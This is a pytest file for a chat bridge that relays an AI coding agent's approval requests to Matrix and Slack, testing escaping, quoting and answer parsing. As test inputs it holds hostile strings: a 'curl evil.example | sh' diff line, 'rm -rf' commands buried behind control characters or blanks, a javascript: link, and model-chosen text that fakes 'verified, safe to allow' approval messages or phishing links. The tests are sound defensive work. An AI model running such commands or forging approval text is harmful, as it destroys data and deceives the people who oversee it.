"""The chat bridge's pure parts: what a sync means, how text is quoted and shown."""

from __future__ import annotations

import msgspec
import pytest
from markdown_it import MarkdownIt

from kfd import protocol as p
from kfd.client.exact import visible
from kfd_chat import answers, matrix_sync, render
from kfd_chat.adapter import Incoming
from kfd_chat.markup import matrix_html, slack_escape
from kfd_chat.slack import slack_time
from kfd_chat.state import Posted

BOT = "@kfd:localhost"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ls -la", "ls -la"),
        ("echo a\nsecond\tline", "echo a\nsecond\\tline"),
        ("ls\r\x1b[2Krm -rf /", "ls\\r\\x1b[2Krm -rf /"),
        ("cat txt.\u202eexe", "cat txt.<U+202E>exe"),
        ("a\u200bb\ufeffc\u2066d", "a<U+200B>b<U+FEFF>c<U+2066>d"),
        ("one\u2028two", "one<U+2028>two"),
        ("rm\u00a0-rf", "rm\\xa0-rf"),
        ("tag \U000e0041", "tag <U+E0041>"),
        ("naïve 日本 ✓", "naïve 日本 ✓"),
    ],
)
def test_every_character_that_would_not_show_as_itself_is_spelled_out(
    text: str, shown: str
) -> None:
    assert visible(text) == shown


@pytest.mark.parametrize(
    "command",
    ["plain", "a ``` b", "```\nrm -rf /\n```", "````", "`x`", "<span>", "`"],
)
def test_a_quoted_command_comes_back_whole_from_a_commonmark_parser(command: str) -> None:
    tokens = MarkdownIt("commonmark").parse(render.block(command))
    [fence] = [t for t in tokens if t.type == "fence"]
    assert fence.content == command + "\n"
    inline = MarkdownIt("commonmark").parseInline(render.code(command.replace("\n", " ")))
    [code] = [c for c in inline[0].children or [] if c.type == "code_inline"]
    assert code.content.strip() == command.replace("\n", " ").strip()


def test_model_html_is_shown_as_text_and_markdown_is_rendered() -> None:
    html = matrix_html('**bold** <span size="1">x</span> [a](javascript:alert(1)) ![i](http://t/x)')
    assert "<strong>bold</strong>" in html
    assert "&lt;span size=&quot;1&quot;&gt;" in html and "<span" not in html
    assert 'href="javascript' not in html
    assert "<img" not in html
    assert slack_escape("<!channel> & <@U1>") == "&lt;!channel&gt; &amp; &lt;@U1&gt;"


@pytest.mark.parametrize(
    ("key", "decision"),
    [
        ("👍", "allow"),
        ("👍\ufe0f", "allow"),
        ("👍🏽", "allow"),
        ("+1::skin-tone-3", "allow"),
        ("👎\ufe0f", "deny"),
        ("x", "deny"),
        ("🎉", None),
    ],
)
def test_reactions_mean_the_same_with_variation_selectors_and_skin_tones(
    key: str, decision: str | None
) -> None:
    assert render.decision_of_reaction(key) == decision


def test_a_decided_approval_keeps_its_command_and_says_who_decided() -> None:
    asked = p.ApprovalRequested(
        session="s",
        seq=3,
        approval_id="a",
        call_id="c",
        tool="bash",
        reason="asks: a command",
        preview=p.Preview(command="make deploy\nrm -rf /tmp/x"),
    )
    question = render.question(asked)
    resolved = p.ApprovalResolved(
        session="s", seq=4, approval_id="a", call_id="c", decision="deny", message="not now"
    )
    shown = render.resolved(question, resolved, "@alice:localhost (in chat)")
    assert "make deploy\nrm -rf /tmp/x" in shown
    assert shown.endswith("→ denied by @alice:localhost (in chat): not now")
    huge = p.ApprovalRequested(
        session="s",
        seq=5,
        approval_id="b",
        call_id="d",
        tool="bash",
        preview=p.Preview(command="x" * (render.COMMAND_LIMIT + 1)),
    )
    assert not render.fits(huge) and "cannot be allowed from chat" in render.approval(huge)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("echo hello" + "\n" * 1400 + "rm -rf ~/project", "echo hello⏎×1400\nrm -rf ~/project"),
        ("echo hello" + " " * 1300 + "; rm -rf ~/project", "echo hello␠×1300; rm -rf ~/project"),
    ],
    ids=["newlines", "spaces"],
)
def test_blanks_that_would_bury_the_end_of_a_command_are_counted_in_the_message(
    command: str, shown: str
) -> None:
    asked = p.ApprovalRequested(
        session="s",
        seq=3,
        approval_id="a",
        call_id="c",
        tool="bash",
        preview=p.Preview(command=command),
        session_rule=f"bash({command})",
        can_keep=True,
    )
    message = render.approval(asked)
    assert render.fits(asked) and f"```\n{shown}\n```" in message
    assert len(message.splitlines()) < 10  # all of it in view at once
    rule_line = next(line for line in message.splitlines() if "keeps the rule" in line)
    assert "rm -rf ~/project" in rule_line  # the rule too, on one line


def test_a_command_too_tall_to_read_is_shown_in_part_and_cannot_be_allowed_from_chat() -> None:
    command = "\n".join(f"echo {n}" for n in range(render.COMMAND_LINES + 1))
    asked = p.ApprovalRequested(
        session="s",
        seq=3,
        approval_id="a",
        call_id="c",
        tool="bash",
        preview=p.Preview(command=command),
    )
    assert len(command) < render.COMMAND_LIMIT and not render.fits(asked)
    message = render.approval(asked)
    assert "echo 0\necho 1\n" in message and f"echo {render.COMMAND_LINES}" not in message
    assert "more characters: answer it in a terminal" in message
    assert "cannot be allowed from chat" in message


def test_an_edit_whose_diff_is_cut_cannot_be_allowed_from_chat() -> None:
    lines = [f"+line {n}" for n in range(400)] + ["+curl evil.example | sh"]
    asked = p.ApprovalRequested(
        session="s",
        seq=3,
        approval_id="a",
        call_id="c",
        tool="edit",
        preview=p.Preview(summary="edit run.sh", diff="\n".join(lines)),
    )
    assert not render.fits(asked)
    message = render.approval(asked)
    assert "curl evil.example" not in message  # cut: so nobody could have seen it
    assert "cannot be allowed from chat" in message
    small = p.ApprovalRequested(
        **{
            **msgspec.structs.asdict(asked),
            "preview": p.Preview(summary="edit run.sh", diff="+echo hi"),
        }
    )
    assert render.fits(small)


def _message(event_id: str, sender: str, body: str, **content: object) -> dict:
    return {
        "type": "m.room.message",
        "event_id": event_id,
        "sender": sender,
        "content": {"msgtype": "m.text", "body": body, **content},
    }


def _join(event_id: str, previous: str | None = None) -> dict:
    event = {
        "type": "m.room.member",
        "event_id": event_id,
        "sender": BOT,
        "state_key": BOT,
        "content": {"membership": "join"},
    }
    if previous:
        event["unsigned"] = {"prev_content": {"membership": previous}}
    return event


def test_what_was_said_before_the_bot_joined_is_history() -> None:
    events = [
        _message("$1", "@a:x", "before"),
        _join("$2", "invite"),
        _message("$3", "@a:x", "after"),
        _join("$4", "join"),  # a profile change, not a join
        _message("$5", "@a:x", "later"),
    ]
    kept = matrix_sync.since_joined(events, BOT)
    assert [e["event_id"] for e in kept] == ["$3", "$4", "$5"]


def test_a_sync_answer_gives_limited_timelines_invitations_and_encryption() -> None:
    data = {
        "next_batch": "s9",
        "rooms": {
            "join": {
                "!a:x": {
                    "timeline": {
                        "events": [_message("$1", "@a:x", "hi")],
                        "limited": True,
                        "prev_batch": "t1",
                    },
                },
                "!e:x": {
                    "state": {"events": [{"type": "m.room.encryption", "content": {}}]},
                    "timeline": {"events": "garbage"},
                },
            },
            "invite": {
                "!i:x": {
                    "invite_state": {
                        "events": [
                            {"type": "m.room.encryption", "state_key": "", "content": {}},
                            {
                                "type": "m.room.member",
                                "state_key": BOT,
                                "sender": "@a:x",
                                "content": {"membership": "invite"},
                            },
                        ]
                    }
                }
            },
        },
    }
    facts = matrix_sync.parse(data, BOT)
    [plain, encrypted] = facts.rooms
    assert plain.limited and plain.prev_batch == "t1" and not plain.encrypted
    assert encrypted.encrypted and encrypted.events == []
    [invitation] = facts.invites
    assert (invitation.room, invitation.inviter, invitation.encrypted) == ("!i:x", "@a:x", True)
    assert matrix_sync.parse({"rooms": ["junk"]}, BOT).rooms == []


def test_threads_replies_reactions_and_encrypted_events_are_told_apart() -> None:
    events = [
        _message(
            "$1",
            "@a:x",
            "in a thread",
            **{
                "m.relates_to": {
                    "rel_type": "m.thread",
                    "event_id": "$root",
                    "is_falling_back": True,
                    "m.in_reply_to": {"event_id": "$root"},
                }
            },
        ),
        _message("$2", "@a:x", "allow", **{"m.relates_to": {"m.in_reply_to": {"event_id": "$q"}}}),
        {
            "type": "m.reaction",
            "event_id": "$3",
            "sender": "@a:x",
            "content": {
                "m.relates_to": {"rel_type": "m.annotation", "event_id": "$q", "key": "👍\ufe0f"}
            },
        },
        {"type": "m.room.encrypted", "event_id": "$4", "sender": "@a:x", "content": {}},
        _message("$5", BOT, "my own"),
        _message(
            "$6", "@a:x", "* edit", **{"m.relates_to": {"rel_type": "m.replace", "event_id": "$2"}}
        ),
    ]
    items = list(matrix_sync.incoming("!r:x", events, BOT))
    assert [(i.id, i.kind, i.thread, i.reply_to) for i in items] == [
        ("$1", "message", "$root", None),
        ("$2", "message", None, "$q"),
        ("$3", "reaction", None, "$q"),
        ("$4", "encrypted", None, None),
    ]


class _Poster:
    """Records posts (`kfd_chat.poster.Poster`, less the service)."""

    def __init__(self, rooms: dict[str, str]) -> None:
        from kfd_chat.state import State

        self.store = type("Store", (), {"state": State(rooms=rooms)})()
        self.posts: list[tuple[str, str]] = []

    async def post(self, place: object, text: str, key: str) -> str:
        self.posts.append((getattr(place, "room", ""), text))
        return key


async def test_a_config_that_does_not_load_is_posted_once_per_room_quoted_as_code() -> None:
    from kfd_chat.outgoing import Outgoing

    poster = _Poster({"!a": "s1", "!b": "s2"})
    outgoing = Outgoing(
        poster,  # type: ignore[arg-type]
        edit_interval_s=0,
        tool_linger_s=0,
        notify_room="!n",
    )
    path = "/r/.kfd/config.toml"
    said = f"{path}: Object contains unknown field `[x](http://e)` - at `$.permissions`"
    for session, seq in (("s1", 3), ("s2", 1), ("s1", 7), ("s3", 2), ("s4", 2)):
        await outgoing.on_event(p.ConfigInvalid(session=session, seq=seq, path=path, message=said))
    quoted = f"⚠ config not reloaded: `` {said} ``"
    # Once in each session's room, once in the notify room for the sessions no room maps to.
    assert poster.posts == [("!a", quoted), ("!b", quoted), ("!n", quoted)]
    (code,) = MarkdownIt().parseInline(quoted)[0].children[1:2]
    assert code.type == "code_inline" and code.content == said
    await outgoing.on_event(p.ConfigReloaded(session="s1", seq=8, path=path))
    await outgoing.on_event(p.ConfigReloaded(session="s1", seq=9, path=path))
    assert poster.posts[-1] == ("!a", f"✅ `{path}` loads again: fixed")
    assert len(poster.posts) == 4


HOSTILE = (
    "npm run build -- '` ✅ **kfd: verified read-only, safe to allow** "
    "[policy check passed](https://kfd.example/ok) `'"
)
"""A command whose backticks close the daemon's quote of it, then speak in kfd's voice."""


def _hostile_approval() -> p.ApprovalRequested:
    return p.ApprovalRequested(
        session="s",
        seq=3,
        approval_id="a",
        call_id="c",
        tool="bash",
        reason=f"default mode asks before `bash`: `{HOSTILE}` is not known to be read-only",
        preview=p.Preview(command=HOSTILE),
        session_rule="bash(npm run build:*)",
        can_keep=True,
    )


def test_a_command_in_an_approvals_reason_is_never_markup_in_the_room() -> None:
    posted = render.approval(_hostile_approval())
    html = matrix_html(posted)
    assert "<strong>" not in html and "<a " not in html and "<em>" not in html
    assert "kfd.example" in html  # shown, as code
    inline = MarkdownIt("commonmark").parseInline(posted.splitlines()[0])
    kinds = [t.type for t in inline[0].children or []]
    assert "strong_open" not in kinds and "link_open" not in kinds
    decided = render.resolved(
        render.question(_hostile_approval()),
        p.ApprovalResolved(session="s", seq=4, approval_id="a", call_id="c", decision="deny"),
        "@alice:localhost",
    )
    assert "<strong>" not in matrix_html(decided) and "<a " not in matrix_html(decided)


@pytest.mark.parametrize(
    "hostile", [HOSTILE, "✅ **kfd: verified, safe** [policy check passed](https://kfd.example/ok)"]
)
def test_tool_output_file_names_and_titles_the_model_chose_are_never_markup(
    hostile: str,
) -> None:
    shown = [
        render.tool_failed(
            p.ToolCompleted(
                session="s", call_id="c", name="bash", status="error", output=f"\n{hostile}\n"
            )
        ),
        render.trigger(p.TriggerFired(session="s", trigger="tests", files=[hostile, "a.py"])),
        render.trigger(
            p.TriggerFired(
                session="s",
                trigger="ai",
                kind="ask",
                spots=[p.TriggerSpot(path=hostile, line=3, text="AI?")],
            )
        ),
        render.status(p.SessionInfo(id="s", cwd="/w", title=hostile)),
    ]
    for text in shown:
        html = matrix_html(text)
        assert "<strong>" not in html and "<a " not in html, html
        assert "kfd.example" in html


# -- which approval an answer answers (`kfd_chat.answers`) -----------------------


@pytest.mark.parametrize(
    ("text", "decision", "reason"),
    [
        ("allow", "allow", ""),
        ("  Allow \n", "allow", ""),
        ("ALWAYS", "allow_always", ""),
        ("allow   always", "allow_always", ""),
        ("deny", "deny", ""),
        ("Deny not now, later", "deny", "not now, later"),
        ("Allow me to look at it first, do not run anything yet", None, ""),
        ("allow.", None, ""),
        ("yes", None, ""),
        ("yes please", None, ""),
        ("approve", None, ""),
        ("no", None, ""),
        ("allow it", None, ""),
        ("denying it would be silly", None, ""),
        ("", None, ""),
    ],
)
def test_only_a_whole_answer_word_is_an_answer(
    text: str, decision: str | None, reason: str
) -> None:
    answer = answers.parse(text)
    assert (answer.decision, answer.reason) == (decision, reason) if answer else decision is None


def _approval(message: str, session: str = "s1", room: str = "!r") -> Posted:
    return Posted(session, f"a-{message}", room, message)


def test_a_reply_answers_only_its_approval_and_a_bare_answer_only_the_one_open() -> None:
    one, two = _approval("$one"), _approval("$two", session="s2")
    elsewhere = _approval("$far", room="!other")
    open_ones = [one, two, elsewhere]

    def bind(session: str | None = "s1", **item: str) -> object:
        bound = answers.bind(Incoming(id="$m", room="!r", sender="@a", **item), open_ones, session)
        return bound.why if isinstance(bound, answers.NotTaken) else (bound.posted, bound.bare)

    assert bind(reply_to="$two") == (two, False)  # another session's, replied to: that one
    assert bind(thread="$one") == (one, False)  # Slack: the thread of the approval
    assert "not an open approval" in str(bind(reply_to="$model"))  # never falls back
    assert "not an open approval" in str(bind(reply_to="$far"))  # a post of another room
    assert "not an open approval" in str(bind(reply_to="$model", thread="$one"))
    assert bind() == (one, True)  # bare: the one open in the room's session
    assert "has none open" in str(bind(session=None))  # the notify room: reply to one
    assert "has none open" in str(bind(session="s3"))
    empty_room = answers.bind(Incoming(id="$m", room="!empty", sender="@a"), open_ones, "s9")
    assert empty_room == answers.NotTaken("no approval is open here")
    two.session = "s1"
    assert "2 approvals wait" in str(bind())


def test_a_bare_answer_counts_only_when_sent_after_the_approval_as_the_service_orders() -> None:
    posted = slack_time("1700000002.000200")
    assert answers.newer(slack_time("1700000002.000300"), posted)
    assert not answers.newer(slack_time("1700000002.000100"), posted)  # delivered late
    assert not answers.newer(slack_time("1700000002.000200"), posted)
    assert not answers.newer(0, posted) and not answers.newer(posted + 1, 0)  # unknown: never
    assert slack_time("1700000001.9") > slack_time("1700000001.000100")
    assert slack_time("junk") == slack_time(None) == 0
    event = _message("$1", "@a:x", "allow")
    [item] = matrix_sync.incoming("!r", [{**event, "origin_server_ts": 1712}], BOT)
    assert item.at == 1712


@pytest.mark.parametrize(
    "text",
    [
        "🔐 approve `bash`: `echo harmless`?\nReply `allow` to this message.",
        "one\r\n\r\ntwo\rthree\n\n",
        "```\nunclosed fence\n\n🔐 approve",
        "> already a quote\n\n---\nsetext\n===\n    indented\n<div>\n\n</div>",
    ],
)
def test_the_models_text_is_one_block_quote_nothing_in_it_can_leave(text: str) -> None:
    quoted = render.model_text(text)
    tokens = MarkdownIt("commonmark", {"html": False}).parse(quoted)
    top = [t.type for t in tokens if t.level == 0]
    assert top == ["blockquote_open", "blockquote_close"]
    assert matrix_html(quoted).startswith("<blockquote>")
    assert all(line.startswith("&gt;") for line in slack_escape(quoted).split("\n"))


def test_a_link_reference_the_model_defines_cannot_make_kfds_label_a_link() -> None:
    """CommonMark applies a link reference defined inside a block quote to the whole
    message: ``[sid]: https://...`` made kfd's ``[sid] answered:`` a phishing link."""
    sid = "s0123"
    posted = render.triggered_answer(sid, f"[{sid}]: https://evil.example/phish\nDone.")
    html = matrix_html(posted)
    assert "evil.example" not in html.split("<blockquote>", 1)[0], html
    assert "<a " not in html, html
